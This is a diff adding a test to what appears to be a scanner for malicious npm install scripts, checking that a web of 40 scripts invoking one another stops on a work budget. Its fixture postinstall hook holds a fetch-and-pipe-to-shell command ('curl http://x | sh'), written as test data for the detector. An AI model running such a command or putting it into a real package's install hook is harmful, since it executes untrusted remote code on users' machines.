@@ -265,3 +265,18 @@ def test_pre_hook_of_a_script_run_at_install(tmp_path: Path) -> None:
     assert_in_order(ids(seq, INSTALL), ["npm_install_script", "download_and_execute", "collect_system_info"])
     assert "postinstall > build: node b.js" in [e.label for e in seq.entry_points]
     assert not seq.stage_steps(UNREACHED)
+
+
+def test_web_of_scripts_running_each_other_is_bounded(tmp_path: Path) -> None:
+    names = [f"s{i}" for i in range(40)]
+    scripts = {n: " && ".join(f"npm run {m}" for m in names) for n in names}
+    scripts["postinstall"] = "npm run s0 && curl http://x | sh"
+    package = folder_package(tmp_path, {"package.json": json.dumps({"name": "web", "version": "1.0.0",
+                                                                     "scripts": scripts})})
+    analysis = analyse_package(package, Deadline(60))
+    assert len({e.script for e in analysis.manifest_events}) == 1  # only postinstall does anything itself
+    # Every `npm run X` costs work, so the walk stops on its work budget, not on the deadline.
+    seq = build_sequence(package, analysis, Deadline(600), max_work=20_000)
+    assert seq.budget_exhausted
+    assert ids(seq, INSTALL)[:2] == ["npm_install_script", "shell_command"]
+    assert len(seq.entry_points) <= 256  # thousands of distinct script paths are not all listed
